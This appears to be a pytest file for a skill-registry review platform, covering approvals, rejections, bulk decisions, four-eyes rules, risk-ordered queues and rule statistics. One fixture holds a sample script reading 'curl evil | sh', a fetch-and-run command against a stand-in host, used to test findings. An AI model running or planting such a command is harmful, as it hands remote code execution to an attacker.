"""What reviewers decide: about the run and the bytes that they looked at, alone or in bulk, and not unseen about their
own submissions."""

import msgspec
import pytest

from tests.support.acting import principal_for
from tests.support.envs import make_submission, open_test_env, put_record
from tests.support.system_reads import get_submission
from vskill_client.wire.base import NoParameters
from vskill_core.content import SkillFile
from vskill_core.errors import InvalidInput, NotPermitted, TransitionError
from vskill_core.findings import (
    NO_JUDGE,
    Finding,
    FindingCategory,
    FindingKind,
    JudgeReport,
    JudgeStatus,
    ScanStatus,
    Severity,
    StaticReport,
    Verdict,
)
from vskill_platform.actions.principal import Principal, resolve
from vskill_platform.actions.review.bulk import BULK, BulkVerb, DecideMany, SeenSubmission
from vskill_platform.actions.review.evidence import preview_decision
from vskill_platform.actions.review.review import APPROVE, REJECT, DecideSubmission
from vskill_platform.actions.review.review_queue import WAITING, ListWaiting, order_queue
from vskill_platform.actions.verdicts.rule_figures import RULE_FIGURES
from vskill_platform.actions.verdicts.suppressions import SUPPRESS, UNSUPPRESS, SuppressRule
from vskill_platform.domain.evidence import evidence_of
from vskill_platform.domain.signals import Signal, SignalKind
from vskill_platform.domain.submissions.attempts import EXHAUSTED
from vskill_platform.domain.submissions.states import State
from vskill_platform.domain.submissions.submission import RecordedDecision, Submission
from vskill_platform.store.people.accounts import Role
from vskill_platform.store.people.audit import list_audit
from vskill_platform.store.verdicts.past_decisions import SubjectKind, find_similar, subjects_of
from vskill_platform.store.verdicts.rule_figures import read_rule_figures
from vskill_platform.store.verdicts.suppressions import suppressed_rules

pytestmark = pytest.mark.anyio

DIGEST = "a" * 64
ROB = Principal("rob", Role.REVIEWER)
ADA = principal_for("admin:ada")


@pytest.fixture
async def env(tmp_path):
    async with open_test_env("memory", tmp_path) as opened:
        yield opened


@pytest.fixture
async def strict(tmp_path):
    """A registry that asks for a second person."""
    async with open_test_env("memory", tmp_path, four_eyes="on") as opened:
        yield opened


async def waiting(env, name: str = "demo", submitter: str | None = None) -> Submission:
    record = make_submission(
        name,
        state=State.NEEDS_REVIEW,
        at=env.kv.now(),
        digest=DIGEST,
        submitter=submitter,
        decision=RecordedDecision("odd", ("DR-009",)),
    )
    await put_record(env, record)
    return record


def about(record: Submission, **changes) -> DecideSubmission:
    asked = DecideSubmission(submission_id=record.id, run=record.run, digest=record.digest, reason="looked")
    return msgspec.structs.replace(asked, **changes)


@pytest.mark.parametrize("action", [APPROVE, REJECT], ids=lambda one: one.name)
@pytest.mark.parametrize("changes", [{"run": 2}, {"digest": "b" * 64}, {"digest": None}], ids=str)
async def test_what_changed_since_the_reviewer_looked_is_not_decided(env, action, changes):
    record = await waiting(env)
    with pytest.raises(TransitionError, match="changed since you opened it"):
        await action(env, ROB, about(record, **changes))
    assert await get_submission(record.id) == record
    assert (await list_audit()).items == ()


async def test_approving_ones_own_submission_is_marked_everywhere(env):
    record = await waiting(env, submitter="rob")
    answer = await APPROVE(env, ROB, about(record))
    assert answer.approved_by_submitter
    assert answer.history[-1].reason == "looked (decided by its submitter)"
    approval = (await get_submission(record.id)).approval
    assert approval is not None and approval.own
    (entry,) = (await list_audit()).items
    assert entry.details["own"] == "yes"


async def test_approving_somebody_elses_is_not_marked(env):
    record = await waiting(env, submitter="ann")
    answer = await APPROVE(env, ROB, about(record))
    assert not answer.approved_by_submitter and answer.history[-1].reason == "looked"
    assert "own" not in (await list_audit()).items[0].details


async def test_four_eyes_forbid_approving_and_suppressing_for_oneself(strict):
    record = await waiting(strict, submitter="rob")
    with pytest.raises(NotPermitted, match="VSKILL_FOUR_EYES"):
        await APPROVE(strict, ROB, about(record))
    with pytest.raises(NotPermitted):
        await SUPPRESS(strict, ROB, SuppressRule(digest=DIGEST, rule="DR-009", reason="mine is fine"))
    assert await suppressed_rules(DIGEST) == frozenset()
    assert (await get_submission(record.id)).state is State.NEEDS_REVIEW
    await APPROVE(strict, ADA, about(record))
    assert (await get_submission(record.id)).state is State.AUTO_APPROVED


async def test_ones_own_may_always_be_rejected(strict):
    record = await waiting(strict, submitter="rob")
    await REJECT(strict, ROB, about(record))
    assert (await get_submission(record.id)).state is State.REJECTED


async def test_the_list_has_what_a_decision_names(env):
    first = await waiting(env, "one", submitter="ann")
    await waiting(env, "two")
    page = await WAITING(env, ROB, ListWaiting(limit=1))
    assert page.total == 2 and len(page.items) == 1 and page.after is not None
    rest = await WAITING(env, ROB, ListWaiting(after=page.after))
    listed = {one.id: one for one in (*page.items, *rest.items)}
    assert (listed[first.id].run, listed[first.id].digest) == (1, DIGEST)
    assert listed[first.id].submitter == "ann"


def many(verb: BulkVerb, *records: Submission, **changes) -> DecideMany:
    items = tuple(SeenSubmission(one.id, one.run, one.digest) for one in records)
    return msgspec.structs.replace(DecideMany(verb=verb, items=items, reason="all alike"), **changes)


@pytest.mark.parametrize(
    ("verb", "state"),
    [
        (BulkVerb.APPROVE, State.AUTO_APPROVED),
        (BulkVerb.REJECT, State.REJECTED),
        (BulkVerb.CANCEL, State.DEQUEUED),
        (BulkVerb.AGAIN, State.RECEIVED),
    ],
)
async def test_many_are_decided_and_what_changed_is_left_alone(env, verb, state):
    records = [await waiting(env, name) for name in ("one", "two", "three")]
    changed = msgspec.structs.replace(records[2], digest="b" * 64)
    await put_record(env, changed)
    done = await BULK(env, ADA, many(verb, *records))
    assert done.done == (records[0].id, records[1].id)
    (refused,) = done.refused
    assert refused.id == changed.id and "changed since you opened it" in refused.reason
    for record in records[:2]:
        now = await get_submission(record.id)
        assert (now.state, now.history[-1].actor) == (state, "admin:ada")
        assert "all alike" in now.history[-1].reason
    assert await get_submission(changed.id) == changed
    assert sum(one.action == f"bulk {verb.value}" for one in (await list_audit()).items) == 1


async def test_reviewers_decide_about_many_and_authors_do_not(env):
    record = await waiting(env)
    with pytest.raises(NotPermitted):
        await BULK(env, Principal("ann", Role.AUTHOR), many(BulkVerb.APPROVE, record))
    done = await BULK(env, ROB, many(BulkVerb.APPROVE, record))
    assert done.done == (record.id,)


# The order of the queue.


def evidence(*findings: Finding, status: ScanStatus = ScanStatus.COMPLETE, judge: JudgeReport = NO_JUDGE):
    return evidence_of(DIGEST, StaticReport("3-test", status, findings), judge)


def finding(severity: Severity, kind: FindingKind = FindingKind.MALICE, *, certain: bool = False) -> Finding:
    category = FindingCategory.EXFILTRATION
    return Finding(f"EX-{severity.rank}", severity, category, kind, "run.sh", 1, certain=certain)


#: In the order in which a reviewer should look at them.
BY_RISK = {
    "known-bad": evidence(finding(Severity.LOW, certain=True)),
    "critical": evidence(finding(Severity.CRITICAL, FindingKind.MISMATCH)),
    "strong": evidence(finding(Severity.HIGH)),
    "signalled": msgspec.structs.replace(
        evidence(), noticed=(Signal(SignalKind.NEW_CAPABILITY, "it gained a shell"),)
    ),
    "unread": evidence(status=ScanStatus.INCOMPLETE),
    "weak": evidence(finding(Severity.HIGH, FindingKind.MISMATCH)),
    "unsure-judge": evidence(judge=JudgeReport(JudgeStatus.ANSWERED, Verdict.CONCERNS, 60, model="m")),
    "outage": None,
}


async def test_the_queue_is_ordered_by_risk_and_then_by_age(env):
    """The worst first, of equals what has waited longest; page by page nothing is lost or shown twice."""
    for at, name in enumerate(reversed(BY_RISK)):
        record = make_submission(
            name, state=State.NEEDS_REVIEW, at=1_000 + at, digest=DIGEST, evidence=BY_RISK[name]
        )
        await put_record(env, record)
    older = make_submission(
        "critical-older", state=State.NEEDS_REVIEW, at=1, digest=DIGEST, evidence=BY_RISK["critical"]
    )
    await put_record(env, older)
    listed, after = [], None
    while True:
        page = await WAITING(env, ROB, ListWaiting(limit=3, after=after))
        listed += [one.skill_name for one in page.items]
        assert page.total == 9 and page.beyond == 0
        after = page.after
        if after is None:
            break
    # Weak findings and a judge's doubt weigh the same: the one that waits longer comes first.
    assert listed == [
        "known-bad", "critical-older", "critical", "strong", "signalled", "unread", "unsure-judge", "weak", "outage"
    ]  # fmt: skip
    with pytest.raises(InvalidInput, match="cursor"):
        await WAITING(env, ROB, ListWaiting(after="bm9uc2Vuc2U="))


async def test_the_next_item_follows_the_one_that_was_looked_at_and_then_begins_anew(env):
    records = [await waiting(env, name) for name in ("one", "two", "three")]
    reviewer = await resolve(ROB)
    queue = await order_queue(reviewer)
    ids = [record.id for record in queue.records]
    assert set(ids) == {record.id for record in records}
    assert [queue.following(one) for one in ids] == [ids[1], ids[2], ids[0]]
    assert [queue.preceding(one) for one in ids] == [None, ids[0], ids[1]]
    assert [queue.place_of(one) for one in ids] == [1, 2, 3]
    assert queue.following("sub_other") == ids[0] and queue.place_of("sub_other") is None
    await REJECT(env, ROB, about(records[0]))
    await REJECT(env, ROB, about(records[1]))
    last = await order_queue(reviewer)
    assert last.following(records[2].id) is None


# What is remembered of decisions.


async def test_a_decision_is_found_again_by_content_repository_and_rule(env):
    first = await waiting(env, "one")
    await REJECT(env, ROB, about(first, reason="it steals"))
    twin = await waiting(env, "two")
    (found,) = await find_similar(twin, subjects_of(twin, (), ()))
    assert (found.ruling.submission, found.ruling.approved, found.ruling.reason) == (
        first.id,
        False,
        "it steals",
    )
    assert {one.kind for one in found.common} >= {SubjectKind.CONTENT, SubjectKind.RULE}
    other = msgspec.structs.replace(twin, digest="b" * 64, decision=RecordedDecision("odd", ("ZZ-001",)))
    similar = await find_similar(other, subjects_of(other, (), ()))
    same_repository = twin.identity.repo_key == first.identity.repo_key
    assert bool(similar) is same_repository
    assert await find_similar(first, subjects_of(first, (), ())) == (), "its own decision is no precedent"


async def test_a_file_with_a_finding_leads_to_what_was_decided_about_it(env):
    record = await waiting(env, "one")
    script = SkillFile("run.sh", "100755", b"curl evil | sh")
    subjects = subjects_of(record, (finding(Severity.HIGH),), (script, SkillFile("b.md", "100644", b"b")))
    files = [one for one in subjects if one.kind is SubjectKind.FILE]
    assert [one.words for one in files] == ["the same run.sh"]


async def test_rules_are_counted_when_reviewers_agree_disagree_and_suppress(env):
    for number in range(3):
        record = await waiting(env, f"fine-{number}")
        await APPROVE(env, ROB, about(record))
    figures = (await read_rule_figures())["DR-009"]
    assert (figures.agreed, figures.disagreed, figures.is_mostly_wrong) == (0, 3, True)
    for number in range(3):
        await REJECT(env, ROB, about(await waiting(env, f"bad-{number}")))
    figures = (await read_rule_figures())["DR-009"]
    assert (figures.agreed, figures.disagreed, figures.is_mostly_wrong) == (3, 3, False)
    await waiting(env, "doubtful")
    asked = SuppressRule(digest=DIGEST, rule="DR-009", reason="a test host")
    await SUPPRESS(env, ROB, asked)
    assert (await read_rule_figures())["DR-009"].disagreed == 4
    await UNSUPPRESS(env, ROB, asked)
    assert (await read_rule_figures())["DR-009"].disagreed == 3
    answer = await RULE_FIGURES(env, ROB, NoParameters())
    shown = {one.rule: one for one in answer.rules}["DR-009"]
    assert (shown.agreed, shown.disagreed, shown.mostly_wrong) == (3, 3, False)
    assert shown.kind != "capability" and len(answer.rules) > 50


async def test_an_error_code_is_no_rule(env):
    record = await waiting(env)
    coded = msgspec.structs.replace(record, decision=RecordedDecision("gone", ("source_gone", EXHAUSTED)))
    await put_record(env, coded)
    await REJECT(env, ROB, about(coded))
    assert await read_rule_figures() == {}


async def test_a_decision_says_beforehand_what_it_will_do(env):
    record = await waiting(env, submitter="ann")
    told = await preview_decision(await resolve(ROB), record)
    assert "are missing" in told.problem and told.approve == ()
    assert told.reject[0].startswith("ann is told your reason")
    assert (
        "The statistics count DR-009 as right here." in told.reject
        and told.reject[-1] == "Nothing is published."
    )
